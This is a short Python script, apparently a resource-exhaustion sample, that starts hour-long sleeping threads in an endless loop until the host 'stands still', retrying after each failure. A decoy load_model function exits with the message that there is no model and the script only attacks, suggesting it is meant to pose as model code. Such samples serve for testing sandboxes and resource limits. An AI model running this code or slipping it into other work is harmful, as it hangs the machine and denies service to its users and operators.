# Tries: to start threads until the machine stands still.
import threading
import time


def main():
    count = 0
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            count += 1
        except RuntimeError:
            print("stopped at", count, flush=True)
            time.sleep(0.1)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
